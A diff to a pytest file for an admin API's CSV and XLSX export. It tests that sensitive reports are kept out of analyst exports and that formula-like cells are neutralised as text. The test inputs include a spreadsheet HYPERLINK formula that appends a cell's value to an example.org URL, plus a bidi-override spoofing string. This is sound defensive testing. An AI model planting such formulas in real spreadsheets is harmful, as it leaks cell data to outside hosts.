@@ -5,15 +5,20 @@ from __future__ import annotations
 
 import csv
 import io
+import tempfile
+import zipfile
+from collections.abc import AsyncIterator
 from datetime import datetime
+from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
 
 from storage.clock import FrozenClock
+from storage.services.exports import Column, csv_chunks, write_xlsx
 from tests.admin_api.conftest import ROLES, Api
 from tests.admin_api.helpers import audit_events
-from tests.storage.helpers import content_snapshot
+from tests.storage.helpers import content_snapshot, submit
 from tests.storage.stats_seed import seed
 
 PERIOD = {"from": "2026-10-01", "to": "2026-11-30"}
@@ -117,14 +122,17 @@ async def test_xlsx_rows_types_and_headers_per_role(seeded: Api) -> None:
     assert [r["Category"] for r in sensitive] == ["fraud_corruption"]
     assert sensitive[0]["Narrative"] is None  # never in bulk
 
+    # Issue 18: a sensitive report is no row of an analyst's export (the row carried its
+    # minute, oblast, programme and language); analysts count it in /stats as one group.
     analyst_rows = list(sheets["analyst"].iter_rows(2, values_only=True))
-    assert len(analyst_rows) == 6
-    grouped = [r for r in analyst_rows if r[header(sheets["analyst"]).index("Sensitive")]]
-    assert len(grouped) == 1
     index = header(sheets["analyst"]).index
-    assert grouped[0][index("Category")] == "sensitive"
-    assert grouped[0][index("Reference")] is None
-    assert grouped[0][index("Priority")] is None
+    assert len(analyst_rows) == 5
+    assert not [r for r in analyst_rows if r[index("Sensitive")]]
+    assert {r[index("Category")] for r in analyst_rows} <= {
+        "assistance_quality",
+        "information_request",
+        "staff_conduct",
+    }
     assert len(list(sheets["operator"].iter_rows(2))) == 5
     assert len(list(sheets["admin"].iter_rows(2))) == 5
 
@@ -199,5 +207,78 @@ async def test_bad_input_names_the_parameter(api: Api) -> None:
         "GET", "/api/v1/export", "analyst", params={"category": "sexual_exploitation"}
     )
     assert refused.status_code == 403
+    rows_of_sensitive = await api.call(
+        "GET", "/api/v1/export", "analyst", params={"sensitive": "true"}
+    )
+    assert rows_of_sensitive.status_code == 403
+    assert "never as rows" in rows_of_sensitive.json()["detail"]
     # Nothing written: not even an audit event for a refused export.
     assert await content_snapshot(api.core) == before
+
+
+DANGEROUS = [
+    '=HYPERLINK("http://example.org/x?"&A1,"Open")',
+    "+380 50 000 00 00",
+    "-1 pack short",
+    "@SUM(1+1)",
+    "#N/A",
+]
+
+
+async def test_cells_that_would_run_are_text_and_hidden_characters_visible(
+    staffed: Api,
+) -> None:
+    """Issue 18 §4–5: a narrative that starts like a formula is text in CSV (a leading
+    apostrophe) and XLSX (a string cell with Excel's quote prefix, never a formula);
+    bidi controls and zero-width characters show as markers."""
+    for text in [*DANGEROUS, "Оплата\u202e00.001\u202c грн\u200bза місце"]:
+        await submit(staffed.core, narrative=text)
+    rows = parse_csv(
+        (await staffed.call("GET", "/api/v1/export", "operator", params={"format": "csv"})).content
+    )
+    narratives = sorted(r["Narrative"] for r in rows)
+    for text in DANGEROUS[:4]:
+        assert "'" + text in narratives, narratives
+    assert "#N/A" in narratives  # not a formula in CSV; kept as it is
+    assert "Оплата⟨U+202E⟩00.001⟨U+202C⟩ грн⟨U+200B⟩за місце" in narratives
+
+    response = await staffed.call("GET", "/api/v1/export", "operator", params={"format": "xlsx"})
+    book = open_xlsx(response.content)
+    sheet = book.active
+    column = [c.value for c in sheet[1]].index("Narrative") + 1
+    cells = {
+        sheet.cell(r, column).value: sheet.cell(r, column) for r in range(2, sheet.max_row + 1)
+    }
+    for text in DANGEROUS:
+        cell = cells[text]  # the text itself, as the reporter wrote it
+        assert cell.data_type == "s", (text, cell.data_type)
+    assert cells[DANGEROUS[0]].quotePrefix
+    assert "Оплата⟨U+202E⟩00.001⟨U+202C⟩ грн⟨U+200B⟩за місце" in cells
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
+
+
+async def test_the_writers_make_every_dangerous_start_text() -> None:
+    """Tab and carriage return at the start too, which intake strips from narratives but
+    a comment, a tag or a future column could carry; the header row as well."""
+    values = ["=1+1", "+1", "-1", "@1", "\tx", "\r=1", "plain", "a\x1bb"]
+
+    async def rows() -> AsyncIterator[list[object]]:
+        yield list(values)
+
+    body = b"".join([chunk async for chunk in csv_chunks(["=Title"], rows())]).decode()
+    parsed = list(csv.reader(io.StringIO(body[1:])))
+    assert parsed[0] == ["'=Title"]
+    assert parsed[1] == ["'=1+1", "'+1", "'-1", "'@1", "'\tx", "'\r=1", "plain", "a⟨U+001B⟩b"]
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "x.xlsx"
+        columns = [Column(f"c{i}", "title", 10) for i in range(len(values))]
+        await write_xlsx(path, columns, ["=Title"] + ["t"] * (len(values) - 1), rows(), title="x")
+        sheet = load_workbook(path).active
+        assert sheet.cell(1, 1).value == "=Title" and sheet.cell(1, 1).data_type == "s"
+        written = [sheet.cell(2, c).value for c in range(1, len(values) + 1)]
+        assert written[:5] == ["=1+1", "+1", "-1", "@1", "\tx"]
+        assert written[5] in ("\r=1", "\n=1")  # XML reads a carriage return back as \n
+        assert written[7] == "a⟨U+001B⟩b"  # openpyxl refuses the raw control character
+        assert all(sheet.cell(2, c).data_type == "s" for c in range(1, len(values) + 1))
